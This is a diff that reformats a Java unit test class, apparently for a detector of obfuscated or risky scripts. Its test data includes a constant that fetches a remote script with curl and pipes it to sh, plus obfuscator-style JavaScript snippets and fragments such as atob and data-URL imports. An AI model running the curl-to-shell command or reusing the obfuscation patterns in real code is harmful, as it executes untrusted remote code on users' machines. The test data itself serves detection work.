@@ -16,8 +16,8 @@ import org.junit.jupiter.params.provider.ValueSource;
 class PlainScriptTest {
     private static final String RUN = "curl https://a.example/x | sh";
 
-    private static final String ORDER = "(function(a,b){const c=f;while(!![]){try{const d=parseInt(c(0x1))/0x1;if(d===b)break;"
-            + "else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}}(g,0x1f));";
+    private static final String ORDER = "(function(a,b){const c=f;while(!![]){try{const d=parseInt(c(0x1))/0x1;"
+            + "if(d===b)break;else a['push'](a['shift']());}catch(e){a['push'](a['shift']());}}}(g,0x1f));";
 
     private static String encoded(String text) {
         return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
@@ -151,7 +151,21 @@ class PlainScriptTest {
 
     @ParameterizedTest
     @ValueSource(
-            strings = {"a['b'", "'a'+", "x=['a',", "x[0", "x=['a'];x[0]", "d=s=>atob(s);d(", "atob('YWJj')", "function ", "a.push(a.shift(", "$`", "'\\x61", "import('data:", "new worker(eval:true"})
+            strings = {
+                "a['b'",
+                "'a'+",
+                "x=['a',",
+                "x[0",
+                "x=['a'];x[0]",
+                "d=s=>atob(s);d(",
+                "atob('YWJj')",
+                "function ",
+                "a.push(a.shift(",
+                "$`",
+                "'\\x61",
+                "import('data:",
+                "new worker(eval:true",
+            })
     void whateverIsSaidAgainAndAgainEnds(String part) {
         String text = part.repeat((64 << 10) / part.length());
         assertTimeoutPreemptively(Duration.ofSeconds(20), () -> assertThat(kinds(text)).isNotNull());
